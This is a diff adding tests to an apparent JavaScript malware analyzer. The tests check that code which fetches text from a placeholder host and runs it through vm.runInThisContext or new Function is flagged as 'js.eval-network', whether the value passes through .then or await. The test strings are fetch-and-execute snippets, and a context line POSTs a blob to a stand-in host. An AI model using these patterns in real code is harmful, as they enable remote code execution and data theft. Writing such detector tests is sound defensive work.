@@ -240,3 +240,27 @@ require('https').request({ hostname: 'in.example', method: 'POST' }).end(blob);`
     expect(r.stats.parsed_files).toBe(2);
   });
 });
+
+describe('values through promises', () => {
+  it('what a Promise executor resolves with reaches .then callbacks and await', () => {
+    const net = `const https = require('https');
+function pull(u) {
+  return new Promise((ok, bad) => https.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => ok(b)); }).on('error', bad));
+}`;
+    const viaThen = analyzeSource({
+      'a.js': `${net}\npull('https://cfg.example.test/x').then((code) => require('vm').runInThisContext(code));`,
+    });
+    expect(viaThen.evidence.map((e) => e.rule)).toContain('js.eval-network');
+    const viaAwait = analyzeSource({
+      'a.js': `${net}\n(async () => { const code = await pull('https://cfg.example.test/x'); new Function(code)(); })();`,
+    });
+    expect(viaAwait.evidence.map((e) => e.rule)).toContain('js.eval-network');
+  });
+
+  it('a promise resolved with a constant stays clean', () => {
+    const r = analyzeSource({
+      'a.js': `new Promise((ok) => ok('1 + 1')).then((c) => require('vm').runInThisContext(c));`,
+    });
+    expect(threatsOf(r)).not.toContain('malicious_code');
+  });
+});
